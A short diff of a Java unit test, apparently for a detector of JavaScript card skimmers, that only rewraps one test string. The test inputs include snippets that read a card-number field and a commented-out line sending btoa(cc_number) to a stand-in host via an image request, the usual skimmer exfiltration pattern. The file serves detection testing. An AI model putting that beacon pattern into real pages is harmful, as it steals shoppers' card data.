@@ -29,7 +29,8 @@ class JsJudgeTest {
   @ValueSource(
       strings = {
         "var n = document.getElementById('cc-number').value; if (!luhn(n)) { show('wrong'); }",
-        "fetch('https://api.stripe.com/v1/tokens', {body: document.getElementById('cc-number').value})",
+        "fetch('https://api.stripe.com/v1/tokens', {body:"
+            + " document.getElementById('cc-number').value})",
         "var x = a / b / c; var y = /atob\\('aHR0cHM6'/.test(s);",
         "// new Image().src = 'https://collect.invalid/?' + btoa(cc_number)\nvar a = 1;",
         "var form = $('form').serialize(); $.post('/cart/add', form);",
